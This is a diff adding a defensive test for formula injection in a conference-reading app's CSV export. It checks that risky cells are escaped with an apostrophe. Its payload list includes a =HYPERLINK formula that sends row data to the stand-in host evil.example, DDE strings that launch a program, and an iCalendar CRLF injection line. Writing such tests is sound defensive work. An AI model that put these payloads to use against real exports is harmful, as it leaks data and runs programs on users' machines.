@@ -421,12 +421,53 @@ def test_fragments_returned_by_star_state_note_and_triage_posts(world, client_of
 
 
 def test_csv_keeps_the_text_exactly(world, client_of, payload):
-    """CSV is data: no HTML is escaped in it; text that cannot start a formula is written as it is."""
+    """CSV is data, not HTML: text that cannot start a spreadsheet formula is written exactly as it is."""
     rows = list(csv.DictReader(io.StringIO(content_of(client_of.get(conf_url("export", world, "csv"))))))
     row = next(row for row in rows if row["forum_id"] == world.paper.forum_id)
     assert (row["title"], row["abstract"], row["primary_area"], row["my_one_liner"]) == (payload,) * 4
     assert row["authors"] == f"{payload}; Ada Lovelace"
     assert row["keywords"] == f"{payload}; vision"
+
+
+FORMULAS = [
+    '=HYPERLINK("https://evil.example/?"&A2,"click")',
+    "+cmd|' /C calc'!A0",
+    "-2+3+cmd|' /C calc'!A0",
+    "@SUM(1,2)",
+    "\t=1+1",
+    "\r=1+1",
+    "  =1+1",
+    "＝1+1",
+]
+
+
+@pytest.mark.parametrize("formula", FORMULAS, ids=["equals", "plus", "minus", "at", "tab", "cr", "spaces", "fullwidth"])
+def test_csv_cells_never_start_a_formula(conference, lab, member, member_client, formula):
+    """
+    A spreadsheet runs a cell that starts with = + - @ (or a tab, a carriage return, spaces before one,
+    a full-width ＝): =HYPERLINK(…) can send the row (the lab's notes) away, DDE can start a program.
+    Policy (OWASP's): such a cell is written after an apostrophe, which spreadsheets show as text; the
+    CSV import then keeps the apostrophe. The forum id cannot start a formula (letters, digits, - and _
+    only: no function to call) and is the import's key, so it is written as it is.
+    """
+    paper = PaperFactory(conference=conference, forum_id="formula1", title=formula, abstract=formula,
+                         authors=[formula, "Ada"], keywords=[formula], primary_area=formula)  # fmt: skip
+    session = SessionFactory(conference=conference, title=formula, starts_at=START, ends_at=END)
+    Presentation.objects.create(paper=paper, session=session)
+    ReadingStatus.objects.create(user=member, paper=paper, state="shortlisted", starred=True)
+    NoteFactory(paper=paper, author=member, lab=lab, kind=Note.Kind.SUMMARY, body=f"{formula} one-liner")
+
+    text = content_of(member_client.get(reverse("export", args=[lab.slug, conference.slug, "csv"])))
+    [row] = list(csv.DictReader(io.StringIO(text, newline="")))
+    formula_start = tuple("=+-@＝＋－＠")
+    starts_formula = [
+        name for name, value in row.items() if value.lstrip().startswith(formula_start) or value[:1] in ("\t", "\r")
+    ]
+    assert starts_formula == []
+    assert (row["title"], row["abstract"], row["primary_area"]) == (f"'{formula}",) * 3
+    assert (row["authors"], row["keywords"]) == (f"'{formula}; Ada", f"'{formula}")
+    assert row["my_one_liner"] == f"'{' '.join(formula.split())} one-liner"
+    assert row["sessions"].startswith(f"'{formula}@2024-05-07 10:45-12:45")
 
 
 CRLF = "Dinner\r\nBEGIN:VEVENT\r\nSUMMARY:injected\r\nEND:VEVENT"
